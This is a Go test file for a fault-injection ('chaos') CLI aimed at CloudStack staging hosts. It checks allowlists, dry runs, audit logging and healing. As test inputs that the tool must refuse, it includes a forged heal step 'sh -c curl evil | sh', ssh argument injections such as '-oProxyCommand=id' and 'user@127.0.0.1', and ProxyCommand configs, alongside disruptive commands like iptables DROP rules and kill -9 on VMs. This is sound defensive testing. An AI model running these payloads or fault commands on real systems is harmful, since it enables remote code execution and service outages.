package main

import (
	"bytes"
	"fmt"
	"net/http"
	"net/http/httptest"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
)

func TestInjectCLI(t *testing.T) {
	log := filepath.Join(t.TempDir(), "inject.log")
	sshConfig := filepath.Join(t.TempDir(), "ssh_config")
	os.WriteFile(sshConfig, []byte("Host stage-kvm1\n  HostName 127.0.0.1\n  Port 1\n"), 0o600)
	runCLICases(t, []cliCase{
		{[]string{"inject", "--help"}, 0, "dead man's switch"},
		{[]string{"inject", "disconnect", "--host", "stage-1", "--duration", "1m"}, 2, "--allow-host PATTERN (or --allow-host-tag TAG) is required"},
		{[]string{"inject", "meteor", "--host", "stage-1", "--allow-host", "*"}, 2, "unknown fault"},
		{[]string{"inject", "disconnect", "--host", "stage-1", "--allow-host", "stage-*"}, 2, "give --duration"},
		{[]string{"inject", "agent-stop", "--host", "stage-1", "--allow-host", "stage-*", "--audit-log", log}, 0, "agent-stop is now called agent-restart"},
		{[]string{"inject", "agent-kill", "--host", "stage-1", "--allow-host", "stage-*", "--audit-log", log, "--dry-run"}, 0, "would run   stage-1: systemctl kill --signal=SIGKILL cloudstack-agent"},
		{[]string{"inject", "agent-kill", "--host", "stage-1", "--allow-host", "stage-*", "--audit-log", log, "--dry-run", "--yes"}, 2, "--yes and --dry-run contradict each other"},
		{[]string{"inject", "agent-restart", "--host", "prod-1", "--allow-host", "stage-*", "--audit-log", log, "--yes"}, 2, "not allowlisted"},
		{[]string{"inject", "agent-restart", "--host", "stage-1", "--host", "stage-2", "--allow-host", "stage-*", "--audit-log", log, "--yes"}, 2, "blast radius"},
		// without --yes: the plan, nothing run (ssh to a host that does not exist would fail)
		{[]string{"inject", "disconnect", "--host", "stage-nonexistent.invalid", "--duration", "1m", "--allow-host", "stage-*", "--audit-log", log, "--id", "t1"}, 0, "would run   stage-nonexistent.invalid: iptables -I OUTPUT -p tcp --dport 8250 -m comment --comment csconform-inject-t1 -j DROP"},
		// the dry run shows the commands quoted exactly as they run
		{[]string{"inject", "disconnect", "--host", "stage-1", "--duration", "1m", "--allow-host", "stage-*", "--audit-log", log, "--id", "t2"}, 0, `systemd-run --unit csconform-heal-t2 --on-active=90s sh -c 'for c in INPUT OUTPUT; do`},
		// the allowlist bypass of issue 16: a user part in --host made ssh connect to 127.0.0.1
		{[]string{"inject", "agent-restart", "--host", "stage-kvm1@127.0.0.1", "--allow-host", "stage-kvm*", "--audit-log", log, "--yes"}, 2, `bad host name "stage-kvm1@127.0.0.1"`},
		{[]string{"inject", "agent-restart", "--host", "-oProxyCommand=id", "--allow-host", "*", "--audit-log", log, "--yes"}, 2, "bad host name"},
		{[]string{"inject", "agent-restart", "--host", "stage-kvm1", "--ssh-user", "root@127.0.0.1", "--allow-host", "stage-kvm*", "--audit-log", log, "--yes"}, 2, "bad ssh user"},
		// an alias in ssh's config pointing outside the allowlist (ssh -G says where it leads)
		{[]string{"inject", "agent-restart", "--host", "stage-kvm1", "--ssh-opt=-F", "--ssh-opt=" + sshConfig, "--allow-host", "stage-kvm*", "--audit-log", log, "--yes"}, 2, "ssh connects to root@127.0.0.1:1 (ssh -G)"},
		{[]string{"inject", "backdate", "--db-host", "stage-db", "--network", "0000-1111", "--by", "25h", "--duration", "10m", "--allow-host", "stage-*", "--allow-network", "0000-*", "--audit-log", log}, 0, "INTERVAL 90000 SECOND"},
	})
	b, err := os.ReadFile(log)
	if err != nil {
		t.Fatal(err)
	}
	if n := strings.Count(string(b), "\n"); n < 8 || !strings.Contains(string(b), `"action":"refuse"`) || !strings.Contains(string(b), `"action":"dry-run"`) {
		t.Fatalf("audit log (%d lines):\n%s", n, b)
	}
	var helpOut, helpErr bytes.Buffer
	if code := run([]string{"inject", "--help"}, &helpOut, &helpErr); code != 0 {
		t.Fatalf("inject --help: exit %d %s", code, helpErr.String())
	}
	help := helpOut.String()
	for _, w := range []string{"crash", "agent-restart", "agent-kill", "disconnect", "slow-router-boot", "backdate", "crash-domain, agent-stop, cut-link", "inject heal", "--dry-run", "--allow-host", "--max-targets", "--yes", "Healing",
		"--allow-tag KEY=VALUE", "--allow-host-tag TAG", "--api URL"} {
		if !strings.Contains(help, w) {
			t.Errorf("inject --help does not document %s", w)
		}
	}
}

// --local and --yes really run: agent-restart through a fake systemctl and systemd-run on PATH.
func TestInjectLocalReal(t *testing.T) {
	dir := t.TempDir()
	marker := filepath.Join(dir, "ran")
	for _, c := range []string{"systemctl", "systemd-run"} {
		os.WriteFile(filepath.Join(dir, c), []byte("#!/bin/sh\necho "+c+" \"$@\" >> "+marker+"\n"), 0o755)
	}
	t.Setenv("PATH", dir+string(os.PathListSeparator)+os.Getenv("PATH"))
	log := filepath.Join(dir, "inject.log")
	runCLICases(t, []cliCase{
		{[]string{"inject", "agent-restart", "--host", "stage-1", "--duration", "1ms", "--id", "l1", "--allow-host", "stage-*", "--local", "--yes", "--audit-log", log}, 0, "applied stage-1: systemctl stop cloudstack-agent: ok"},
	})
	want := "systemd-run --unit csconform-heal-l1 --on-active=30s systemctl start cloudstack-agent\n" +
		"systemctl stop cloudstack-agent\nsystemctl start cloudstack-agent\nsystemctl stop csconform-heal-l1.timer\n"
	if b, _ := os.ReadFile(marker); string(b) != want {
		t.Fatalf("ran %q, want %q", b, want)
	}
}

// A refusal is said once, on stderr (the audit log has it too).
func TestInjectRefusalOnceOnStderr(t *testing.T) {
	var out, errb bytes.Buffer
	log := filepath.Join(t.TempDir(), "inject.log")
	code := run([]string{"inject", "agent-restart", "--host", "prod-1", "--allow-host", "stage-*", "--audit-log", log, "--yes"}, &out, &errb)
	if code != 2 || out.Len() != 0 || strings.Count(errb.String(), "refused") != 1 {
		t.Fatalf("exit %d\nstdout: %q\nstderr: %q", code, out.String(), errb.String())
	}
}

// inject heal: a run killed while its fault held (plan and apply records, no end) is healed from the
// plan record's heal steps: a dry run first, then --yes; then nothing is left.
func TestInjectHealCLI(t *testing.T) {
	dir := t.TempDir()
	marker := filepath.Join(dir, "ran")
	os.WriteFile(filepath.Join(dir, "systemctl"), []byte("#!/bin/sh\necho systemctl \"$@\" >> "+marker+"\n"), 0o755)
	t.Setenv("PATH", dir+string(os.PathListSeparator)+os.Getenv("PATH"))
	log := filepath.Join(dir, "inject.log")
	killed := `{"time":"2026-11-30T10:00:00Z","id":"k1","fault":"agent-restart","action":"plan","target":"host:stage-1","result":"2 apply","heal":[{"host":"stage-1","argv":["systemctl","start","cloudstack-agent"]}],"disarm":[{"host":"stage-1","argv":["systemctl","stop","csconform-heal-k1.timer"]}]}
{"time":"2026-11-30T10:00:01Z","id":"k1","fault":"agent-restart","action":"apply","host":"stage-1","argv":["systemctl","stop","cloudstack-agent"],"result":"ok"}
`
	os.WriteFile(log, []byte(killed), 0o600)
	runCLICases(t, []cliCase{
		{[]string{"inject", "heal", "--audit-log", filepath.Join(dir, "none.log"), "--allow-host", "stage-*"}, 2, "no such file"},
		{[]string{"inject", "heal", "--audit-log", log, "--allow-host", "stage-*", "--host", "x"}, 2, "--host do not apply"},
		{[]string{"inject", "heal", "--audit-log", log, "--local"}, 2, "--allow-host PATTERN (or --allow-host-tag TAG) is required"},
		{[]string{"inject", "heal", "--audit-log", log, "--local", "--allow-host", "prod-*", "--yes"}, 2, "refused: run k1: host:stage-1 is not allowlisted"},
		{[]string{"inject", "heal", "--audit-log", log, "--local", "--allow-host", "stage-*"}, 0, "would run   stage-1: systemctl start cloudstack-agent"},
	})
	if _, err := os.Stat(marker); err == nil {
		t.Fatal("a dry run of heal ran something")
	}
	runCLICases(t, []cliCase{
		{[]string{"inject", "heal", "--audit-log", log, "--local", "--allow-host", "stage-*", "--yes"}, 0, "healed stage-1: systemctl start cloudstack-agent: ok (inject heal)"},
		{[]string{"inject", "heal", "--audit-log", log, "--local", "--allow-host", "stage-*", "--yes"}, 0, "nothing to heal"},
	})
	if b, _ := os.ReadFile(marker); string(b) != "systemctl start cloudstack-agent\nsystemctl stop csconform-heal-k1.timer\n" {
		t.Fatalf("ran %q", b)
	}
}

// Issue 49: a plan record anyone could have written (the default log is ./csconform-inject.log) is
// refused by heal --yes, exit 2, nothing run: a command inject never heals with, a host outside the
// allowlist heal is given, or (over ssh) a ProxyCommand or ControlPath on the way.
func TestInjectHealRefusesAHostileLog(t *testing.T) {
	dir := t.TempDir()
	marker := filepath.Join(dir, "ran")
	for _, c := range []string{"sh", "systemctl"} {
		os.WriteFile(filepath.Join(dir, c), []byte("#!/bin/sh\necho "+c+" \"$@\" >> "+marker+"\n"), 0o755)
	}
	t.Setenv("PATH", dir+string(os.PathListSeparator)+os.Getenv("PATH"))
	// a killed agent-restart's records, its heal steps (and host) those given
	record := func(name, heal string) string {
		host := "stage-1"
		if strings.Contains(heal, "prod-db1") {
			host = "prod-db1"
		}
		log := filepath.Join(dir, name+".log")
		os.WriteFile(log, []byte(strings.ReplaceAll(`{"time":"2026-11-30T10:00:00Z","id":"k1","fault":"agent-restart","action":"plan","target":"host:stage-1","result":"2 apply","heal":`+heal+`,"disarm":[{"host":"stage-1","argv":["systemctl","stop","csconform-heal-k1.timer"]}]}
{"time":"2026-11-30T10:00:01Z","id":"k1","fault":"agent-restart","action":"apply","host":"stage-1","argv":["systemctl","stop","cloudstack-agent"],"result":"ok"}
`, "stage-1", host)), 0o600)
		return log
	}
	agent := `[{"host":"stage-1","argv":["systemctl","start","cloudstack-agent"]}]`
	cases := []cliCase{
		{[]string{"inject", "heal", "--audit-log", record("cmd", `[{"host":"stage-1","argv":["sh","-c","curl evil | sh"]}]`), "--local", "--allow-host", "stage-*", "--yes"},
			2, `refused: run k1: its heal steps are not the ones inject makes for agent-restart on host:stage-1: "stage-1: sh -c 'curl evil | sh'"`},
		{[]string{"inject", "heal", "--audit-log", record("host", strings.ReplaceAll(agent, "stage-1", "prod-db1")), "--local", "--allow-host", "stage-*", "--yes"},
			2, "host:prod-db1 is not allowlisted"},
	}
	if _, err := exec.LookPath("ssh"); err == nil {
		// the real ssh -G (it connects nowhere); a proxy that ran would leave its mark
		for _, c := range []struct{ name, config, want string }{
			{"proxy", "ProxyCommand /bin/sh -c 'echo proxy >> " + marker + "'", "ProxyCommand"},
			{"shared", "ControlMaster auto\n  ControlPath " + filepath.Join(dir, "cm"), `ControlPath "` + filepath.Join(dir, "cm") + `" (ControlMaster auto)`},
		} {
			cfg := filepath.Join(dir, c.name+".config")
			os.WriteFile(cfg, []byte("Host stage-1\n  "+c.config+"\n"), 0o600)
			cases = append(cases, cliCase{[]string{"inject", "heal", "--audit-log", record(c.name, agent), "--allow-host", "stage-*",
				"--ssh-opt=-F", "--ssh-opt=" + cfg, "--yes"}, 2, c.want})
		}
	}
	runCLICases(t, cases)
	if b, err := os.ReadFile(marker); err == nil {
		t.Fatalf("a refused log ran %q", b)
	}
}

// inject --allow-tag/--allow-host-tag: the tags are read through the API (a fake CloudStack that
// answers listVirtualMachines with resource tags and listHosts with host tags); a target allowed
// by neither a name nor a tag is refused with the flag that would allow it.
func TestInjectTagsCLI(t *testing.T) {
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		q := r.URL.Query()
		if r.Method != http.MethodGet || q.Get("apiKey") != "k" {
			w.WriteHeader(http.StatusUnauthorized)
			fmt.Fprint(w, `{"errorresponse":{"errorcode":401,"errortext":"unable to verify user credentials"}}`)
			return
		}
		switch q.Get("command") {
		case "listVirtualMachines":
			fmt.Fprint(w, `{"listvirtualmachinesresponse":{"count":2,"virtualmachine":[`+
				`{"id":"v1","instancename":"i-2-3-VM","tags":[{"key":"env","value":"staging"}]},`+
				`{"id":"v2","instancename":"i-2-4-VM","tags":[{"key":"env","value":"prod"}]}]}}`)
		case "listHosts":
			fmt.Fprint(w, `{"listhostsresponse":{"count":2,"host":[{"id":"h1","name":"kvm1","hosttags":"chaos"},{"id":"h2","name":"kvm2","hosttags":"ssd"}]}}`)
		default:
			w.WriteHeader(http.StatusBadRequest)
		}
	}))
	defer srv.Close()
	log := filepath.Join(t.TempDir(), "inject.log")
	api := []string{"--api", srv.URL + "/client/api", "--api-key", "k", "--secret-key", "s3cret", "--audit-log", log}
	with := func(args ...string) []string { return append(append([]string{"inject"}, args...), api...) }
	runCLICases(t, []cliCase{
		{[]string{"inject", "agent-restart", "--host", "kvm1", "--allow-host-tag", "chaos", "--audit-log", log}, 2, "need --api URL"},
		{[]string{"inject", "agent-restart", "--host", "kvm1", "--allow-host", "kvm1", "--allow-tag", "env", "--audit-log", log}, 2, "want KEY=VALUE"},
		{with("agent-restart", "--host", "kvm1", "--allow-host", "kvm1"), 2, "--api is only for reading tags"},
		{with("agent-restart", "--host", "kvm1", "--allow-host-tag", "chaos"), 0, "DRY RUN of agent-restart on host:kvm1"},
		{with("agent-restart", "--host", "kvm2", "--allow-host-tag", "chaos", "--yes"), 2, "none of its host tags (ssd) is an --allow-host-tag; allow it with --allow-host kvm2 or --allow-host-tag ssd"},
		{with("crash", "--host", "kvm1", "--vm", "i-2-3-VM", "--allow-host-tag", "chaos", "--allow-tag", "env=staging"), 0, "would run   kvm1: sh -c 'kill -9 \"$(cat /run/libvirt/qemu/i-2-3-VM.pid)\"'"},
		{with("crash", "--host", "kvm1", "--vm", "i-2-4-VM", "--allow-host-tag", "chaos", "--allow-tag", "env=staging", "--yes"), 2, "allow it with --allow-vm i-2-4-VM or --allow-tag env=prod"},
		{with("crash", "--host", "kvm1", "--vm", "i-2-3-VM", "--allow-host", "kvm1", "--allow-vm", "r-*"), 2, "--api is only for reading tags"},
		// a wrong key: the tags cannot be read, nothing is allowed by them, and no secret is shown
		{[]string{"inject", "agent-restart", "--host", "kvm1", "--allow-host-tag", "chaos", "--api", srv.URL + "/client/api", "--api-key", "bad", "--secret-key", "s3cret", "--audit-log", log, "--yes"}, 2, "its host tags cannot be read (listHosts: CloudStack API error 401"},
	})
	b, err := os.ReadFile(log)
	if err != nil {
		t.Fatal(err)
	}
	if strings.Contains(string(b), "s3cret") || strings.Contains(string(b), "signature=") || !strings.Contains(string(b), "--allow-host-tag ssd") {
		t.Fatalf("audit log:\n%s", b)
	}
}
